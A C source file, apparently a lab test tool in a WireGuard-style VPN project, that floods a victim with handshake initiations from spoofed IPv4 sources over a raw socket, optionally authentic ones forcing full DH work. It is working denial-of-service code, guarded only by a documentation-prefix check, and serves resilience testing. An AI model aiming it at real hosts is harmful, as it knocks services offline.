/* hsflood: a handshake flood for lab tests. Sends WireGuard-style
 * initiations that carry a valid mac1 for the victim's public key (all a
 * real attacker needs) and random bytes everywhere else, from spoofed IPv4
 * source addresses in one /24, over a raw socket with IP_HDRINCL. Only for
 * network namespaces a test builds; the source prefix must be one of the
 * documentation ranges.
 *
 *   hsflood [-k PRIVATE_KEY_FILE] VICTIM_IP PORT PUBKEY RATE SECONDS SRC_PREFIX/24
 *
 * RATE is datagrams a second, sent in 1 ms slices with sendmmsg. Prints
 * how many went out. With -k the initiations are authentic: made with that
 * private key (a peer the victim has configured: a stolen key, or a peer
 * gone mad), each with a fresh ephemeral, a random sender index and a
 * TAI64N one nanosecond above the last, so the victim does the full DH work
 * for each and accepts one per 20 ms (SECURITY-NOTES 14: half-open
 * handshakes). About 150 us of our CPU each. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include <sodium.h>

#include "config/keys.h"
#include "crypto/handshake.h"
#include "crypto/keys.h"
#include "wire/wire.h"

enum { SLICE_MAX = 1024, PKT_LEN = 20 + 8 + WIRE_INIT_LEN };

static uint64_t now_ns(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

static bool doc_prefix(uint32_t net)
{
	return net == 0xC0000200u || net == 0xC6336400u || net == 0xCB007100u;
}

/* A big-endian counter step: the smallest TAI64N above the last. */
static void stamp_next(uint8_t stamp[HS_TAI64N_LEN])
{
	for (int i = HS_TAI64N_LEN - 1; i >= 0 && ++stamp[i] == 0; i--)
		;
}

/* One real initiation to victim into msg (WIRE_INIT_LEN bytes). */
static bool authentic_initiation(const struct hs_identity *id, struct hs_peer *victim,
				 uint8_t stamp[HS_TAI64N_LEN], uint8_t *msg)
{
	struct wire_init w;

	stamp_next(stamp);
	if (hs_create_initiation(id, victim, randombytes_random() | 1u, stamp, &w) < 0) {
		fprintf(stderr, "hsflood: cannot build an initiation\n");
		return false;
	}
	memcpy(msg, &w, sizeof(w));
	return true;
}

int main(int argc, char **argv)
{
	static uint8_t pkts[SLICE_MAX][PKT_LEN];
	static struct mmsghdr mm[SLICE_MAX];
	static struct iovec iov[SLICE_MAX];
	uint8_t pub[KEY_LEN], mac1_key[HS_KEY_LEN], stamp[HS_TAI64N_LEN];
	static struct hs_identity id;
	static struct hs_peer victim;
	bool authentic = false;
	struct sockaddr_in dst = {.sin_family = AF_INET};
	struct in_addr src_net;
	unsigned long rate, secs, sent = 0, lost = 0;
	uint64_t start, next;
	char *slash;
	int fd, one = 1;

	if (argc == 9 && strcmp(argv[1], "-k") == 0) {
		uint8_t priv[32];
		char why[128];

		if (sodium_init() < 0 || !cfg_keys_read_file(argv[2], priv, why, sizeof(why)) ||
		    !hs_identity_init(&id, priv)) {
			fprintf(stderr, "hsflood: %s: unusable private key\n", argv[2]);
			return 2;
		}
		sodium_memzero(priv, sizeof(priv));
		authentic = true;
		argv += 2;
		argc -= 2;
	}
	if (argc != 7) {
		fprintf(stderr, "usage: hsflood [-k PRIVATE_KEY_FILE] VICTIM_IP PORT PUBKEY RATE "
				"SECONDS SRC_PREFIX/24\n");
		return 2;
	}
	if (sodium_init() < 0 || inet_pton(AF_INET, argv[1], &dst.sin_addr) != 1 ||
	    !key_from_base64(argv[3], pub)) {
		fprintf(stderr, "hsflood: bad victim address or key\n");
		return 2;
	}
	dst.sin_port = htons((uint16_t)atoi(argv[2]));
	rate = strtoul(argv[4], NULL, 10);
	secs = strtoul(argv[5], NULL, 10);
	slash = strchr(argv[6], '/');
	if (slash)
		*slash = 0;
	if (inet_pton(AF_INET, argv[6], &src_net) != 1 || !slash || strcmp(slash + 1, "24") ||
	    !doc_prefix(ntohl(src_net.s_addr) & 0xFFFFFF00u) || !rate || rate > 1000000) {
		fprintf(stderr, "hsflood: sources must be a documentation /24, rate 1..1e6\n");
		return 2;
	}
	if (authentic && !hs_peer_init(&victim, &id, pub, NULL)) {
		fprintf(stderr, "hsflood: the victim's key is unusable with ours\n");
		return 2;
	}
	hs_tai64n_now(stamp);
	if (hs_mac1_key(pub, mac1_key) < 0) {
		fprintf(stderr, "hsflood: cannot derive the mac1 key\n");
		return 1;
	}
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0 || setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one)) < 0) {
		perror("hsflood: raw socket");
		return 1;
	}
	for (unsigned i = 0; i < SLICE_MAX; i++) {
		struct iphdr *ip = (struct iphdr *)pkts[i];
		struct udphdr *udp = (struct udphdr *)(pkts[i] + 20);

		ip->version = 4;
		ip->ihl = 5;
		ip->ttl = 64;
		ip->protocol = IPPROTO_UDP;
		ip->tot_len = htons(PKT_LEN);
		ip->daddr = dst.sin_addr.s_addr;
		udp->dest = dst.sin_port;
		udp->len = htons(8 + WIRE_INIT_LEN);
		iov[i].iov_base = pkts[i];
		iov[i].iov_len = PKT_LEN;
		mm[i].msg_hdr.msg_iov = &iov[i];
		mm[i].msg_hdr.msg_iovlen = 1;
		mm[i].msg_hdr.msg_name = &dst;
		mm[i].msg_hdr.msg_namelen = sizeof(dst);
	}
	start = next = now_ns();
	while (now_ns() - start < secs * 1000000000ull) {
		/* Datagrams due by now, at most one slice. */
		uint64_t due = (now_ns() - start) * rate / 1000000000ull;
		unsigned n = due > sent ? (unsigned)(due - sent) : 0;

		if (n > SLICE_MAX)
			n = SLICE_MAX;
		for (unsigned i = 0; i < n; i++) {
			struct iphdr *ip = (struct iphdr *)pkts[i];
			struct udphdr *udp = (struct udphdr *)(pkts[i] + 20);
			uint8_t *msg = pkts[i] + 28;
			uint32_t r = randombytes_random();

			ip->saddr = htonl(ntohl(src_net.s_addr) | (1 + r % 254));
			udp->source = htons((uint16_t)(1024 + (r >> 8) % 60000));
			if (authentic) {
				if (!authentic_initiation(&id, &victim, stamp, msg))
					return 1;
				continue;
			}
			randombytes_buf(msg, WIRE_INIT_LEN);
			msg[0] = WIRE_HANDSHAKE_INIT;
			msg[1] = msg[2] = msg[3] = 0;
			memset(msg + WIRE_INIT_LEN - 16, 0, 16);
			/* Cannot fail for these lengths; a zero mac1 would just be dropped. */
			if (hs_mac1(mac1_key, msg, WIRE_INIT_LEN - 32, msg + WIRE_INIT_LEN - 32) < 0)
				continue;
		}
		if (n) {
			int k = sendmmsg(fd, mm, n, 0);
			if (k > 0)
				sent += (unsigned)k;
			else if (errno != ENOBUFS && errno != EAGAIN)
				perror("hsflood: sendmmsg");
			if (k < (int)n) {
				/* Not sent but due: skip them, keep the pace. */
				lost += n - (k > 0 ? (unsigned)k : 0);
				sent += n - (k > 0 ? (unsigned)k : 0);
			}
		}
		next += 1000000;
		{
			struct timespec ts = {.tv_sec = (time_t)(next / 1000000000u),
					      .tv_nsec = (long)(next % 1000000000u)};
			(void)clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL);
		}
	}
	printf("hsflood: %lu datagrams in %lu s (%lu/s asked), %lu refused by the kernel\n",
	       sent - lost, secs, rate, lost);
	return 0;
}
